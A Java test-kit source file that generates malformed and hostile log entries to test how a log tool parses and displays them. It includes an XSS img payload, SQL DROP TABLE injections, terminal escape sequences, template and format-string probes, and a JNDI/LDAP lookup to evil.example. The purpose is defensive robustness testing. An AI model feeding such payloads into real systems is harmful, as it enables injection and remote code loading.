package io.kanshi.testkit.shop;

import io.kanshi.testkit.CapturedLine;
import io.kanshi.testkit.Container;
import io.kanshi.testkit.Dice;
import io.kanshi.testkit.Json;
import java.time.Instant;
import java.util.function.Consumer;

/**
 * What real logs hold and nobody planned: text meant to be run elsewhere, colours, bytes, cut JSON, a clock that is years ahead. Where
 * a reader may well differ about the level, it is marked as arguable.
 */
final class Oddities {

    /** The level of an entry about which readers may differ. */
    static final String ARGUABLE = "?";

    /** After 32-bit seconds end. */
    static final long YEAR_2038 = CapturedLine.nanos(Instant.parse("2038-01-19T03:14:08Z"));

    private static final String[] HOSTILE = {
        "<!channel> <https://evil.example/login|click here> @here *free coupons*",
        "</script><img src=x onerror=alert(document.domain)>",
        "'; DROP TABLE logs; --",
        "\u001b]0;owned\u0007\u001b[2J\u001b[31mred alert\u001b[0m",
        "null\u0000byte and \u202egnirts desrever\u202c",
        "{{7*7}} ${jndi:ldap://evil.example/a} %00 %n%n%s"
    };

    private final Dice dice;
    private final Fleet fleet;

    Oddities(Dice dice, Fleet fleet) {
        this.dice = dice;
        this.fleet = fleet;
    }

    void all(Consumer<Entry> diary) {
        hostile(diary);
        broken(diary);
        ShopApi shopApi = new ShopApi(dice);
        diary.accept(shopApi.dump(serving("shop-api", 7), at(7), 520));
        diary.accept(shopApi.dump(serving("shop-api", 31), at(31), 900));
        String future = "2038-01-19 03:14:08,000 INFO inventory.api: stock of sku 4711 is 12 in KIX1";
        diary.accept(Entry.line(serving("inventory", 16), YEAR_2038, "info", future));
    }

    private void hostile(Consumer<Entry> diary) {
        ShopApi shopApi = new ShopApi(dice);
        Web web = new Web(dice);
        Payment payment = new Payment(dice);
        for (int i = 0; i < HOSTILE.length; i++) {
            Request request = Request.at(at(4 + 5 * i), dice);
            diary.accept(shopApi.searched(serving("shop-api", 4 + 5 * i), request, HOSTILE[i], 40));
        }
        Request request = Request.at(at(12), dice);
        Request robot = new Request(request.nanos(), "203.0.113.66", "<script>alert(1)</script>", request.trace(), 0);
        String query = "GET /api/v1/search?q=%27%3B+DROP+TABLE+logs%3B+--+<!here>";
        diary.accept(web.access(serving("web", 12), robot, query, 400, 1));
        for (int i = 0; i < 3; i++) {
            Request buyer = Request.at(at(21) + i * 31L * Timeline.SECOND, dice);
            Container teller = fleet.serving("payment", buyer.nanos(), dice);
            diary.accept(payment.failed(
                    teller, buyer, 40, 81_239_990 + i, "gateway said <!channel> </script> '; DROP TABLE charges; --"));
        }
    }

    private void broken(Consumer<Entry> diary) {
        String[] coloured = {
            "\u001b[32minfo\u001b[39m: reloaded feature flags \u001b[2m(17 flags)\u001b[22m",
            "\u001b[33mwarn\u001b[39m: flag \u001b[1mnew-checkout\u001b[22m is deprecated"
        };
        for (int i = 0; i < coloured.length; i++) {
            diary.accept(Entry.line(serving("payment", 9 + i), at(9 + i), ARGUABLE, coloured[i]));
        }
        diary.accept(Entry.line(
                serving("shop-api", 18), at(18), ARGUABLE, "{\"level\":\"info\",\"ts\":\"2026-11-02T14:03:00"));
        diary.accept(Entry.line(
                serving("cart", 14), at(14), ARGUABLE, "\u0000\u0001\u0002\u0016\u0003\u0001\u0002\u0000\ufffd"));
        diary.accept(
                Entry.line(serving("cart", 24), at(24), ARGUABLE, "level=info msg=\"unclosed quote key= =value ="));
        String deep = "{\"level\":\"info\",\"msg\":\"deep\",\"x\":" + "[".repeat(200) + "]".repeat(200) + '}';
        diary.accept(Entry.line(serving("shop-api", 26), at(26), "info", deep));
        String wrongTypes = Json.object()
                .raw("level", "{\"a\":1}")
                .raw("msg", "[1,2]")
                .put("status", "two hundred")
                .raw("time", "true")
                .toString();
        diary.accept(Entry.line(serving("shop-api", 28), at(28), ARGUABLE, wrongTypes));
    }

    private static long at(int minute) {
        return Timeline.START + minute * Timeline.MINUTE + 7_123_000_000L;
    }

    private Container serving(String service, int minute) {
        return fleet.serving(service, at(minute), dice);
    }
}
